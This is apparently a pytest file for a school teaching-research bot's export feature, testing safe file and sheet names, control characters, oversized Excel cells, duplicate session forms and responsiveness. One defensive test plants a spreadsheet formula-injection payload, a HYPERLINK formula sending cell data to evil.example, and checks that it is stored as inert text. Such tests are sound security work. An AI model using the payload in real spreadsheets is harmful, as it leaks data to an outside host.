    assert seeded.teacher.rows("教研活动") == [
        row for row in seeded.school.rows("教研活动") if row[1] == "语文组"]


def test_teacher_export_session_forms_match_the_schools(seeded: Seeded) -> None:
    # The minutes are 王芳's records, not 刘洋's: they are in his archive's forms all the same.
    teacher = {n: fields(d) for n, d in seeded.teacher.docs("教研活动记录").items()}
    school_wide = {n: fields(d) for n, d in seeded.school.docs("教研活动记录").items()
                   if n.startswith("语文组/")}
    assert teacher == school_wide
    assert all(values["讨论要点"] for values in teacher.values())


def test_unknown_scope_is_explained(seeded: Seeded) -> None:
    bot = Driver(seeded.core)
    text = asyncio.run(bot.say(CHEN, "/export 物理组"))
    assert text == ("没有找到教研组或老师「物理组」。\n"
                    "用法：/export（全校），/export 语文组，或 /export 教师姓名")


# -- names that Excel, Windows and ZIP tools would refuse ---------------------------------


def test_safe_name() -> None:
    assert safe_name("语文组") == "语文组"
    assert safe_name('音/体\\美:组*?"<>|[A]') == "音_体_美_组_______A_"
    assert safe_name("  综合组  ") == "综合组"
    assert safe_name("") == "_"
    assert safe_name("///") == "___"
    assert safe_name("考勤-" + "很长的名字" * 10, 31) == ("考勤-" + "很长的名字" * 10)[:31]
    assert len(safe_name("x" * 200)) == 60


def test_width() -> None:
    assert width("") == 0
    assert width("abc") == 3
    assert width("语文组") == 6
    assert width("三年级2班") == 9
    assert width("ＡＢ") == 4  # full-width letters
    assert width("《》，。") == 8
    assert width(2026) == 4
    assert width(date(2026, 11, 30)) == 10


async def test_odd_group_names_give_valid_sheet_and_file_names(
        sqlite_url: str, clock: ManualClock, tmp_path: Path) -> None:
    odd = '综合:组*?"音体美"[A]'
    text = EXAMPLE_CONFIG.read_text(encoding="utf-8").replace('name = "综合组"',
                                                              "name = '" + odd + "'")
    path = tmp_path / "config.toml"
    path.write_text(text, encoding="utf-8")
    config: Config = load(str(path)).config
    assert config.groups[-1].name == odd
    roster = tmp_path / "roster.csv"
    roster.write_text(DEMO_ROSTER.read_text(encoding="utf-8").replace("综合组", odd.replace(
        '"', '""').join('""')), encoding="utf-8")
    core = make_core(config, sqlite_url, clock, roster=False)
    try:
        import_roster(core, read_roster(core, roster))
        seed_semester(core)
        bot = Driver(core)
        bot.bind(CHEN)
        archive = Archive.of(await bot.send(CHEN, f"/export {odd}"))
        forbidden = set('\\/:*?"<>|[]')
        assert archive.filename == f"花城小学_{SEMESTER}_综合_组___音体美__A__20261130.zip"
        book = archive.book()
        assert book.sheetnames == ["听课台账", "反思与材料台账", "教研活动",
                                   "考勤-综合_组___音体美__A_", "请假台账", "公开课台账",
                                   "统计汇总", "指标汇总", *FEATURE_SHEETS, *TERM_SHEETS]
        for title in book.sheetnames:
            assert not forbidden & set(title), title
            assert len(title) <= 31
        for name in archive.files:
            for part in name.split("/"):
                assert not forbidden & set(part), name
        sessions = archive.docs("教研活动记录")
        assert sessions
        assert all(n.startswith("综合_组___音体美__A_/第") for n in sessions)
        # The group's own name is kept inside the files.
        assert {row[1] for row in archive.rows("教研活动")} == {odd}
        assert {row[1] for row in archive.rows("指标汇总")} == {odd}
    finally:
        core.db.close()


# -- text Word and Excel cannot hold -----------------------------------------------------


@pytest.fixture
def small(config: Config, sqlite_url: str, clock: ManualClock) -> Iterator[Driver]:
    bot = Driver(make_core(config, sqlite_url, clock))
    bot.bind(LIU, CHEN)
    yield bot
    bot.core.db.close()


def _texts(document: docx.document.Document) -> list[str]:
    """Every paragraph's text after its label (``优点：…`` → ``…``)."""
    return [p.text.partition("：")[2] for p in document.paragraphs]


async def test_control_character_in_a_record_does_not_break_the_export(small: Driver) -> None:
    # \x0b is Word's manual line break, pasted into a 读书笔记 and into a 听课记录's 优点:
    # XML cannot hold it, so the DOCX and the XLSX show a space instead.
    body = "第一段\x0b第二段。" + NOTE_PHRASE * 5
    saved = await fill(small, LIU, "/record 读书笔记", "《给教师的建议》", "/skip", body,
                       "完成")
    assert "✅ 已提交读书笔记" in shown(saved)
    strength = "朗读\x0c指导层层递进，学生读得有感情。"
    assert "✅ 已提交听课记录" in shown(await observe(small, LIU, strength=strength))
    archive = Archive.of(await small.send(CHEN, "/export"))
    assert f"个人研修档案/{LIU}_2002.docx" in archive.files
    texts = _texts(archive.docs("个人研修档案")[f"{LIU}_2002.docx"])
    assert body.replace("\x0b", " ") in texts
    assert strength.replace("\x0c", " ") in texts
    (row,) = archive.rows("听课台账")
    assert row[10] == strength.replace("\x0c", " ")


async def test_very_long_cell_is_cut_in_the_ledger_but_whole_in_the_portfolio(
        small: Driver) -> None:
    # A 听课记录 whose 优点 runs to 40 009 字 (one message: the 三个一 take one each; a
    # pasted text): an Excel cell holds 32 767.
    parts = [(f"第{i}条" + STRENGTH * 400)[:4000] for i in range(1, 11)]
    strength = "\n".join(parts)
    assert len(strength) > 40_000
    replies = await fill(small, LIU, "记听课", "上周三", "三", "四年级1班", "数学", ZHANG,
                         "分数的初步认识", "新授课", PROCESS, "完成", strength, WEAKNESS,
                         SUGGESTION, taps=("数学", "新授课"))
    assert "✅ 已提交听课记录「分数的初步认识」。" in shown(replies)
    archive = Archive.of(await small.send(CHEN, "/export"))
    (row,) = archive.rows("听课台账")
    assert row[10] == strength[:32_000] + "……（太长，全文见个人研修档案）"
    assert (row[11], row[12]) == (WEAKNESS, SUGGESTION)  # short cells are left alone
    assert strength in _texts(archive.docs("个人研修档案")[f"{LIU}_2002.docx"])


async def test_two_sessions_on_one_day_keep_both_forms(small: Driver, clock: ManualClock) -> None:
    # A leader moves 12-02's session onto the morning of 12-09, the day of the next one:
    # the forms are told apart by their start.
    core = small.core
    small.bind(WANG)

    async def nowhere(_reply: Reply, _item: object) -> bool:
        return True

    await build_runner(core, nowhere).tick()  # plans the semester's sessions

    def find(session):  # type: ignore[no-untyped-def]
        ids = school.group_ids(session, school_id=core.school_id)
        return meetings.list_meetings(session, group_ids=[ids["语文组"]],
                                      start=date(2026, 12, 2), end=date(2026, 12, 2))

    (meeting,) = core.db.call(find)
    replies = await small.send(WANG, button=f"ses:move:{meeting.id}")
    for answer in ("12月9日", "9:00", "10:30"):
        replies = await small.send(WANG, answer)
    replies = await small.send(WANG, button=button_data(replies, "提交"))
    assert "✅ 已更新" in shown(replies)
    clock.set(datetime(2026, 12, 10, 9, 0, tzinfo=ZONE))
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        replies = await small.send(CHEN, "/export 语文组")
    assert not [w for w in caught if "Duplicate name" in str(w.message)]
    archive = Archive.of(replies)
    forms = {name.split("次_")[1]: fields(document)
             for name, document in archive.docs("教研活动记录").items()
             if "_2026-12-09_" in name}
    assert sorted(forms) == ["2026-12-09_0900.docx", "2026-12-09_1450.docx"]
    assert forms["2026-12-09_0900.docx"]["时间"] == "2026年12月09日（周三）09:00–10:30"
    assert forms["2026-12-09_1450.docx"]["时间"] == "2026年12月09日（周三）14:50–16:20"


# -- text that looks like a formula ------------------------------------------------------


EVIL = '=HYPERLINK("http://evil.example/?d="&C2,"点此查看")'


async def test_formula_like_text_is_stored_as_text_in_every_sheet(
        small: Driver, tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text(DEMO_ROSTER.read_text(encoding="utf-8") + "=1+2,语文组,教师,语文,2999\n",
                      encoding="utf-8")
    import_roster(small.core, read_roster(small.core, roster))
    saved = await fill(small, LIU, "/record 读书笔记", EVIL, "/skip", NOTE_PARTS[0], "完成")
    assert "✅ 已提交读书笔记" in shown(saved)
    strength = "+1 学生参与度高，动手操作充分。"
    assert "✅ 已提交听课记录" in shown(await observe(small, LIU, strength=strength))
    archive = Archive.of(await small.send(CHEN, "/export"))
    with zipfile.ZipFile(io.BytesIO(archive.files["台账.xlsx"])) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in book.read(name), name  # no formula anywhere
    seen = set()
    for sheet in archive.book().worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    seen.add((sheet.title, cell.value))
    assert ("反思与材料台账", EVIL) in seen
    assert ("听课台账", strength) in seen
    assert ("考勤-语文组", "=1+2") in seen
    assert ("指标汇总", "=1+2") in seen


# -- the bot keeps answering ------------------------------------------------------------


async def test_others_are_answered_while_an_archive_is_built(
        small: Driver, monkeypatch: pytest.MonkeyPatch) -> None:
    # The archive is built after the update's transaction, in a worker thread. Held at its
    # start (by progress, not by time), it keeps no one else waiting.
    started, release = hold_archives(monkeypatch)
    building = asyncio.create_task(small.send(CHEN, "/export"))
    assert await asyncio.to_thread(started.wait, 60)
    me = await small.say(LIU, "/me")
    assert f"{LIU}" in me
    assert not building.done()
    release.set()
    archive = Archive.of(await asyncio.wait_for(building, 60))
    assert "台账.xlsx" in archive.files


def test_portfolio_shows_the_open_lessons_and_their_observers_notes(seeded: Seeded) -> None:
    lessons = seeded.school.table("公开课台账")
    given = next(row for row in lessons.data if row[12])  # one with observers
    teacher, title, observers = given[4], given[9], str(given[13]).split("、")
    name = next(n for n in seeded.school.docs("个人研修档案") if n.startswith(f"{teacher}_"))
    for archive in (seeded.school, Archive.of(asyncio.run(
            Driver(seeded.core).send(CHEN, f"/export {teacher}")))):
        document = archive.docs("个人研修档案")[name]
        texts = [p.text for p in document.paragraphs]
        assert any(title in t and p.style.name == "Heading 2"
                   for t, p in zip(texts, document.paragraphs, strict=True))
        assert f"预约听课：{'、'.join(observers)}" in texts
        assert any(t.startswith("说课稿/教学设计：说课稿：") for t in texts)
        for observer in observers:  # their 听课记录, though the archive is the teacher's
            assert any(t.startswith(f"{observer}的听课记录：优点：") for t in texts), observer
